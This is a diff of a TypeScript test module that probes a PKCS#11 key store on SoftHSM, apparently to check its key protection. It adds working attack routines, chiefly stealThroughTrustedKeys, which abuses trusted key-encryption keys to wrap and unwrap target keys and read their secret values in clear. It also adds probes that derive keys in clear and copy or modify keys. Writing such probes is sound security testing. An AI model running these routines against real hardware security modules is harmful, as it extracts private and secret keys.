@@ -8,15 +8,30 @@
 import { randomBytes } from 'node:crypto';
 import * as graphene from 'graphene-pk11';
 import { P256_EC_PARAMS } from './ecdsa.js';
+import { CKR, pkcs11Code } from './errors.js';
 import type { KeyRef } from './key-store.js';
+import { collect } from './pkcs11-objects.js';
 import type { Pkcs11KeyStore } from './pkcs11-key-store.js';
 
 export type ProbeOutcome = { readonly refused: true; readonly reason: string } | { readonly refused: false };
+
+/** What the trusted-key attack (Pkcs11Probes.stealThroughTrustedKeys) got: the keys' values in clear, by label. */
+export interface TrustedKeyTheft {
+  /** Trusted token objects the user PIN could see (labels). */
+  readonly trustedSeen: readonly string[];
+  /** C_CopyObject of a trusted key that the token allowed. */
+  readonly copies: number;
+  /** C_SetAttributeValue(CKA_UNWRAP) on a trusted key that the token allowed. */
+  readonly modified: number;
+  /** Target keys read in clear, by label: the private scalar or the secret key's value. */
+  readonly extracted: readonly { readonly label: string; readonly value: Buffer }[];
+}
 
 /** A wrap that went through: the attacker's own key (its value known to them) and the blob. */
 export type WrapProbeOutcome = { readonly refused: true; readonly reason: string } | { readonly refused: false; readonly attackerKey: Buffer; readonly wrapped: Buffer };
 
 function reasonOf(err: unknown): string {
+  if (pkcs11Code(err) === CKR.ACTION_PROHIBITED || /CKR_VENDOR_DEFINED:27\b/.test((err as Error).message)) return 'CKR_ACTION_PROHIBITED';
   return /CKR_[A-Z_]+/.exec((err as Error).message)?.[0] ?? (err as Error).message;
 }
 
@@ -57,6 +72,148 @@ export class Pkcs11Probes {
       } finally {
         own.destroy();
       }
+    });
+  }
+
+  /**
+   * C_CopyObject of a key, with a template that asks for nothing new (PKCS#11 v2.40 4.4: a copy of a key
+   * that is not CKA_COPYABLE=false becomes an object the copier owns). A copy that went through is destroyed.
+   */
+  copyKey(ref: KeyRef, keyClass: 'private' | 'secret' | 'trusted'): ProbeOutcome {
+    return this.withSession((session) => {
+      try {
+        const target = keyClass === 'trusted' ? this.findTrusted(session, ref) : this.find(session, ref, keyClass);
+        session.copy(target, { token: false }).destroy();
+        return { refused: false };
+      } catch (err) {
+        return { refused: true, reason: reasonOf(err) };
+      }
+    });
+  }
+
+  /**
+   * C_SetAttributeValue of a usage attribute on a key (CKA_UNWRAP on a key-encryption key, CKA_DERIVE on
+   * a signing key, CKA_ENCRYPT on a master key): refused for a key made with CKA_MODIFIABLE=false.
+   */
+  modifyKey(ref: KeyRef, keyClass: 'private' | 'secret' | 'trusted'): ProbeOutcome {
+    return this.withSession((session) => {
+      try {
+        const target = keyClass === 'trusted' ? this.findTrusted(session, ref) : this.find(session, ref, keyClass);
+        target.setAttribute(keyClass === 'private' ? { derive: true } : keyClass === 'trusted' ? { unwrap: true } : { encrypt: true });
+        return { refused: false };
+      } catch (err) {
+        return { refused: true, reason: reasonOf(err) };
+      }
+    });
+  }
+
+  /**
+   * A device key derived from a master key as the services derive them (CKM_AES_CBC_ENCRYPT_DATA, zero
+   * IV), but with a template of the caller's choosing: not sensitive, extractable, its value read.
+   * SoftHSM 2.6.1 has no CKA_DERIVE_TEMPLATE to stop it (README "Key protection" says so).
+   */
+  deriveInClear(ref: KeyRef, data: Buffer): { refused: true; reason: string } | { refused: false; value: Buffer } {
+    return this.withSession((session) => {
+      try {
+        const derived = session.deriveKey({ name: 'AES_CBC_ENCRYPT_DATA', params: new graphene.AesCbcEncryptDataParams(Buffer.alloc(16), data) }, this.find(session, ref, 'secret'), {
+          class: graphene.ObjectClass.SECRET_KEY,
+          keyType: graphene.KeyType.AES,
+          valueLen: data.length,
+          token: false,
+          sensitive: false,
+          extractable: true,
+        });
+        try {
+          return { refused: false, value: derived.getAttribute({ value: null }).value as Buffer };
+        } finally {
+          derived.destroy();
+        }
+      } catch (err) {
+        return { refused: true, reason: reasonOf(err) };
+      }
+    });
+  }
+
+  /** C_GetAttributeValue(CKA_VALUE) of a key: refused for a sensitive key. */
+  readValue(ref: KeyRef, keyClass: 'private' | 'secret'): ProbeOutcome {
+    return this.withSession((session) => {
+      try {
+        this.find(session, ref, keyClass).getAttribute({ value: null });
+        return { refused: false };
+      } catch (err) {
+        return { refused: true, reason: reasonOf(err) };
+      }
+    });
+  }
+
+  private findTrusted(session: graphene.Session, ref: KeyRef): graphene.SessionObject {
+    const found = collect(session.find({ class: graphene.ObjectClass.SECRET_KEY, trusted: true, label: ref.label, ...(ref.id ? { id: ref.id } : {}) }));
+    if (found.length !== 1) throw new Error(`probe: ${found.length} trusted keys labelled "${ref.label}"`);
+    return found[0]!;
+  }
+
+  /**
+   * The attack of issue 33 §1, as a holder of the user PIN would run it while a custody ceremony's
+   * trusted key-encryption key is on the token: every trusted secret key the session can see is copied
+   * with CKA_UNWRAP on, or switched to unwrap in place; the targets (wrappable only under a trusted key)
+   * are wrapped under it and unwrapped again as session objects that are neither sensitive nor
+   * non-extractable, and their values read. Whatever it made is destroyed before it returns.
+   */
+  stealThroughTrustedKeys(targets: readonly { ref: KeyRef; keyClass: 'private' | 'secret' }[]): TrustedKeyTheft {
+    return this.withSession((session) => {
+      const trusted = collect(session.find({ class: graphene.ObjectClass.SECRET_KEY, trusted: true })).map((o) => o.toType<graphene.SecretKey>());
+      const trustedSeen = trusted.map((k) => String(k.getAttribute({ label: null }).label ?? ''));
+      let copies = 0;
+      let modified = 0;
+      const extracted: { label: string; value: Buffer }[] = [];
+      const made: graphene.SessionObject[] = [];
+      try {
+        for (const kek of trusted) {
+          let unwrapper: graphene.SecretKey | undefined;
+          try {
+            unwrapper = session.copy(kek, { token: false, unwrap: true }).toType<graphene.SecretKey>();
+            made.push(unwrapper);
+            copies++;
+          } catch {
+            try {
+              kek.setAttribute({ unwrap: true });
+              unwrapper = kek;
+              modified++;
+            } catch {
+              // neither: this key cannot be turned into an unwrapping key
+            }
+          }
+          if (!unwrapper) continue;
+          for (const { ref, keyClass } of targets) {
+            if (extracted.some((e) => e.label === ref.label)) continue;
+            try {
+              const target = this.find(session, ref, keyClass);
+              const mechanism = keyClass === 'private' ? graphene.MechanismEnum.AES_KEY_WRAP_PAD : graphene.MechanismEnum.AES_KEY_WRAP;
+              const blob = session.wrapKey(mechanism, kek, target);
+              const clear = session.unwrapKey(mechanism, unwrapper, blob, {
+                class: keyClass === 'private' ? graphene.ObjectClass.PRIVATE_KEY : graphene.ObjectClass.SECRET_KEY,
+                keyType: keyClass === 'private' ? graphene.KeyType.EC : graphene.KeyType.AES,
+                token: false,
+                sensitive: false,
+                extractable: true,
+              });
+              made.push(clear);
+              extracted.push({ label: ref.label, value: clear.getAttribute({ value: null }).value as Buffer });
+            } catch {
+              // refused for this target: try the next
+            }
+          }
+        }
+      } finally {
+        for (const object of made) {
+          try {
+            object.destroy();
+          } catch {
+            // gone with its session
+          }
+        }
+      }
+      return { trustedSeen, copies, modified, extracted };
     });
   }
 
